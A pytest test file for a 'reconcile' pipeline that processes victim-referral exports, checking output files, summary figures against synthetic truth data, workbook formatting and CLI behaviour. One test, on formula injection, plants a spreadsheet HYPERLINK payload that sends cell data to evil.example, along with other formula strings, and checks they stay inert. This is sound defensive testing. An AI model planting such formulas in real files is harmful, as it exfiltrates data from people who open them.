"""`reconcile run`: every input row accounted for, and summary.json matches the generator's truth.

The truth comes from the sample generator's files (``truth/val_truth.csv``: true area, category,
flags and whether the crime type was filed as residual), never from reconcile's own pipeline.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from reconcile.config import Settings
from reconcile.pipeline import OUTPUT_FILES, RunResult, RunSummary, parse_period, residual_mask, run
from reconcile.sample import SampleFiles

from .conftest import invoke

#: Area values the generator injects as "not one of this force's areas" (sample._inject_defect).
UNKNOWN_AREAS = {"Birmingham", "Wales", "Gloucestershire", "Staffs"}
DA_TOLERANCE = 0.03


def _raw_val(sample: SampleFiles) -> pd.DataFrame:
    """The VAL export exactly as written: a title and a run-date line above the header, cp1252."""
    return pd.read_csv(sample.val_csv, skiprows=2, dtype=str, keep_default_na=False, encoding="cp1252")


@pytest.fixture(scope="module")
def truth(sample: SampleFiles) -> pd.DataFrame:
    table = pd.read_csv(sample.truth_dir / "val_truth.csv", dtype={"flags": str}, keep_default_na=False)
    raw = _raw_val(sample)
    assert len(table) == len(raw)
    table["raw_area"] = raw["Policing Area"].to_numpy()
    table["raw_crime_type"] = raw["Crime Type"].to_numpy()
    table["raw_da"] = raw["DA Flag"].str.strip().str.lower().isin(["y", "yes"]).to_numpy()
    table["true_da"] = table["flags"].str.split(";").map(lambda f: "domestic_abuse" in f).to_numpy()
    return table


@pytest.fixture(scope="module")
def full_run(sample: SampleFiles, tmp_path_factory: pytest.TempPathFactory) -> RunResult:
    return run(sample.val_csv, sample.vs_csv, out_dir=tmp_path_factory.mktemp("run"), period="2023Q2")


@pytest.fixture(scope="module")
def summary_json(full_run: RunResult) -> dict[str, object]:
    return json.loads(full_run.outputs["summary"].read_text(encoding="utf-8"))


# --- every row accounted for -----------------------------------------------------------------------------


def test_writes_every_output(full_run: RunResult) -> None:
    assert set(full_run.outputs) == set(OUTPUT_FILES)
    assert all(p.is_file() and p.stat().st_size > 0 for p in full_run.outputs.values())


def test_records_have_one_row_per_input_row(full_run: RunResult, sample: SampleFiles) -> None:
    n = len(_raw_val(sample))
    records = pd.read_csv(full_run.outputs["records_csv"], dtype=str, keep_default_na=False)
    assert len(records) == n == full_run.summary.rows
    assert records["row"].astype(int).tolist() == list(range(1, n + 1))
    for column in (
        "rc_valid",
        "rc_errors",
        "rc_category",
        "rc_category_source",
        "rc_confidence",
        "rc_rule_ids",
        "rc_needs_review",
        "rc_flag_domestic_abuse",
        "rc_category_before",
        "rc_filed_as_other_crime",
        "rc_da_reconciled",
    ):
        assert column in records.columns, column
    assert (records["rc_category"] != "").all()
    parquet = pd.read_parquet(full_run.outputs["records_parquet"])
    assert len(parquet) == n and list(parquet.columns) == list(records.columns)


def test_failures_and_links_keep_their_contracts(full_run: RunResult, sample: SampleFiles) -> None:
    failures = pd.read_csv(full_run.outputs["failures"])
    assert list(failures.columns) == ["row", "column", "check", "severity", "message"]
    assert len(failures) == full_run.summary.errors + full_run.summary.warnings
    links = pd.read_csv(full_run.outputs["links"])
    assert {"val_row", "vs_row", "score", "match_reasons", "status"} <= set(links.columns)
    true_links = pd.read_csv(sample.truth_dir / "links.csv")
    linked = links[links["status"] == "linked"]
    found = linked.merge(true_links, on=["val_row", "vs_row"])
    assert full_run.summary.linked_pairs == len(linked)
    assert len(found) >= 0.9 * len(true_links)  # the linkage layer's own tests hold it to more


# --- summary.json against the truth ----------------------------------------------------------------------


def test_referrals_by_area_are_exact(summary_json: dict[str, object], truth: pd.DataFrame) -> None:
    expected_area = truth["area"].where(~truth["raw_area"].str.strip().isin(UNKNOWN_AREAS), "(unmapped)")
    expected = {str(k): int(v) for k, v in expected_area.value_counts().items()}
    assert summary_json["referrals_by_area"] == expected
    assert sum(expected.values()) == summary_json["rows"]


def test_other_crime_share_before_is_exact(summary_json: dict[str, object], truth: pd.DataFrame) -> None:
    # The generator files a record as "Other crime" (any case) when its crime type is residual; a
    # defect that blanks the notes also sets the crime type to "Other crime", after the truth row is written.
    filed = truth["raw_crime_type"].str.strip().str.lower().eq("other crime")
    generated = truth["crime_type_residual"].astype(str).eq("True")
    assert (generated & ~filed).sum() == 0
    assert (filed & ~generated).sum() <= 0.02 * len(truth)
    assert summary_json["other_crime_rows"] == int(filed.sum())
    assert summary_json["other_crime_share_before"] == filed.sum() / len(truth)


def test_da_share_within_other_crime_recorded_is_exact(summary_json: dict[str, object], truth: pd.DataFrame) -> None:
    filed = truth["raw_crime_type"].str.strip().str.lower().eq("other crime")
    assert summary_json["da_share_within_other_crime_recorded"] == pytest.approx(truth["raw_da"][filed].mean())


def test_da_share_within_other_crime_is_close_to_the_truth(
    summary_json: dict[str, object], truth: pd.DataFrame
) -> None:
    filed = truth["raw_crime_type"].str.strip().str.lower().eq("other crime")
    expected = (truth["true_da"] | truth["raw_da"])[filed].mean()
    got = summary_json["da_share_within_other_crime"]
    assert isinstance(got, float)
    assert abs(got - expected) <= DA_TOLERANCE, f"DA share within other crime {got:.3f} vs truth {expected:.3f}"


def test_figures_are_consistent(full_run: RunResult) -> None:
    s = full_run.summary
    assert sum(s.category_counts_before.values()) == s.rows == sum(s.category_counts_after.values())
    assert s.category_counts_before["other_crime"] == s.other_crime_rows
    assert s.other_crime_share_after == s.category_counts_after["other_crime"] / s.rows
    assert s.other_crime_share_after < s.other_crime_share_before
    audit = full_run.val.audit
    for area, share in s.quality_by_area.items():
        row = audit[(audit["group_by"] == "area") & (audit["group"] == area)]
        assert share == pytest.approx(float(row["quality_share"].iloc[0]), abs=1e-4), area
    assert s.valid_rows == int(full_run.records["rc_valid"].sum())
    assert s.review_rows == len(full_run.review)
    assert sum(s.allocation_days_histogram.values()) > 0.8 * s.rows
    assert s.median_days_to_allocation is not None and s.median_days_to_allocation >= 0
    assert s.flag_counts["domestic_abuse"] <= s.da_flag_reconciled
    assert s.lost_referrals is not None and s.lost_referrals > 0
    assert s.engagement_rate is not None and 0 < s.engagement_rate < 1
    assert s.rows_outside_period is not None and s.rows_outside_period >= 0


def test_summary_json_round_trips_and_names_its_inputs(
    full_run: RunResult, summary_json: dict[str, object], sample: SampleFiles
) -> None:
    again = RunSummary.model_validate(summary_json)
    assert again.rules_version and again.rules_version == full_run.summary.rules_version
    digests = {i.role: i.sha256 for i in again.inputs}
    assert digests["val"] == hashlib.sha256(sample.val_csv.read_bytes()).hexdigest()
    assert digests["vs"] == hashlib.sha256(sample.vs_csv.read_bytes()).hexdigest()
    for key in (
        "rows",
        "referrals_by_area",
        "quality_by_area",
        "other_crime_share_before",
        "other_crime_share_after",
        "da_share_within_other_crime",
        "da_share_within_other_crime_recorded",
        "category_counts_before",
        "category_counts_after",
        "flag_counts",
        "median_days_to_allocation",
        "lost_referrals",
        "engagement_rate",
        "rules_version",
        "inputs",
    ):
        assert key in summary_json, key
    assert again.period == "2023Q2" and again.period_start == "2023-04-01" and again.period_end == "2023-06-30"


def test_workbook_has_a_sheet_per_table_and_no_formula(full_run: RunResult) -> None:
    book = openpyxl.load_workbook(full_run.outputs["workbook"])
    assert book.sheetnames[:7] == [
        "summary",
        "areas",
        "categories",
        "flags",
        "failures by check",
        "failures",
        "review queue",
    ]
    assert "links" in book.sheetnames
    for ws in book.worksheets:
        assert ws.freeze_panes is not None
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))


def test_a_formula_in_the_notes_stays_text(sample: SampleFiles, tmp_path: Path) -> None:
    raw = _raw_val(sample).head(60)
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Click for support")'
    raw.loc[0, "Notes"] = evil
    raw.loc[1, "Notes"] = "=1+2"
    raw.loc[1, "Crime Type"] = "Other crime"
    raw.loc[2, "Victim Surname"] = "@SUM(A1:A9)"
    path = tmp_path / "val.csv"
    raw.to_csv(path, index=False)
    result = run(path, out_dir=tmp_path / "out")
    book = openpyxl.load_workbook(result.outputs["workbook"])
    texts = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}"
                assert not (isinstance(cell.value, str) and cell.value.startswith("="))
                texts.append(cell.value)
    html = result.outputs["html"].read_text(encoding="utf-8")
    assert "HYPERLINK" not in html and "evil.example" not in html
    records = pd.read_csv(result.outputs["records_csv"], dtype=str, keep_default_na=False)
    assert records.loc[0, "notes"] == evil  # the data file keeps the text as it was


def test_runs_without_a_vs_export(sample: SampleFiles, tmp_path: Path) -> None:
    result = run(sample.val_csv, out_dir=tmp_path)
    assert "links" not in result.outputs and result.links is None
    assert result.summary.lost_referrals is None and result.summary.engagement_rate is None
    assert result.summary.period is None and result.summary.rows_outside_period is None
    assert "Referrals into Victim Support" not in result.outputs["html"].read_text(encoding="utf-8")


def test_progress_is_reported(sample: SampleFiles, tmp_path: Path) -> None:
    seen: list[tuple[str, int, int]] = []
    run(
        sample.val_csv,
        out_dir=tmp_path,
        progress=lambda stage, done, total: seen.append((stage, done, total)),
    )
    stages = [s for s, _, _ in seen]
    assert stages[0].startswith("validating") and stages[-1] == "writing outputs"
    classifying = [(d, t) for s, d, t in seen if s == "classifying"]
    assert classifying and classifying[-1][0] == classifying[-1][1]


# --- small pieces ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "start", "end"),
    [
        ("2023Q2", "2023-04-01", "2023-06-30"),
        ("2024q1", "2024-01-01", "2024-03-31"),
        ("2023-Q4", "2023-10-01", "2023-12-31"),
    ],
)
def test_parse_period(text: str, start: str, end: str) -> None:
    first, last = parse_period(text)
    assert (first.isoformat(), last.isoformat()) == (start, end)


@pytest.mark.parametrize("text", ["2023Q5", "Q2 2023", "2023", "2023-06", ""])
def test_parse_period_rejects_what_is_not_a_quarter(text: str) -> None:
    from reconcile.errors import ConfigError

    with pytest.raises(ConfigError, match="R203"):
        parse_period(text)


def test_residual_mask_follows_the_settings() -> None:
    types = pd.Series(["Other crime", " OTHER  CRIME ", "misc", "", "N/A", "Burglary", "Assault", None])
    assert residual_mask(types, Settings()).tolist() == [True, True, True, True, True, False, False, True]


# --- the command ---------------------------------------------------------------------------------------


def test_cli_run_prints_figures_and_where_the_report_is(sample: SampleFiles, tmp_path: Path) -> None:
    out = tmp_path / "report"
    result = invoke(["run", sample.val_csv, sample.vs_csv, "--out", out, "--period", "2023Q2"])
    assert str(out / "report.html") in result.output
    assert "Open the report: file://" in result.output
    assert "other crime:" in result.output and "referrals by area:" in result.output
    assert (out / "summary.json").is_file()


def test_cli_strict_exits_1_on_error_level_failures(sample: SampleFiles, tmp_path: Path) -> None:
    invoke(["run", sample.val_csv, "--out", tmp_path, "--strict"], code=1)


@pytest.mark.parametrize(
    "args",
    [["run", "missing.csv", "--out", "OUT"], ["run", "VAL", "--out", "OUT", "--period", "2023Q9"]],
)
def test_cli_exits_2_on_unusable_input(args: list[str], sample: SampleFiles, tmp_path: Path) -> None:
    filled = [str(sample.val_csv) if a == "VAL" else str(tmp_path / "o") if a == "OUT" else a for a in args]
    result = invoke(filled, code=2)
    assert "Traceback" not in result.output
